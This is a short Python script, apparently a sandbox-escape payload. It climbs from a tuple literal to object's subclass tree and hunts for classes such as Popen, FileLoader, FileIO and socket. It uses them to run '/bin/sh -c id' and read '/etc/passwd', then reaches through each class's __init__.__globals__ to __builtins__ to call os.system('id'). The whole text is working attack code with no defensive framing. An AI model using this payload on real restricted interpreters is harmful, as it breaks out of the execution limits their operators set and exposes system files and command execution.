# Walks from a literal to every class, and calls whatever looks useful.
found = []
def walk(cls, depth=0):
    for sub in type.__subclasses__(cls):
        found.append(sub)
        if depth < 5 and sub is not type:
            walk(sub, depth + 1)
walk(().__class__.__base__)
for cls in found:
    for name in ("Popen", "_wrap_close", "FileLoader", "BuiltinImporter", "catch_warnings", "FileIO", "socket"):
        if cls.__name__ != name:
            continue
        for args in ((["/bin/sh", "-c", "id"],), ("/etc/passwd",), ()):
            try:
                made = cls(*args)
                print(cls, made)
                print(made.read())
            except Exception as e:
                print(type(e).__name__, e)
for cls in found:
    init = getattr(cls, "__init__", None)
    for name in ("__globals__", "__builtins__", "__code__", "__closure__", "__func__", "__wrapped__"):
        try:
            print(getattr(init, name)["__builtins__"]["__import__"]("os").system("id"))
        except Exception:
            pass
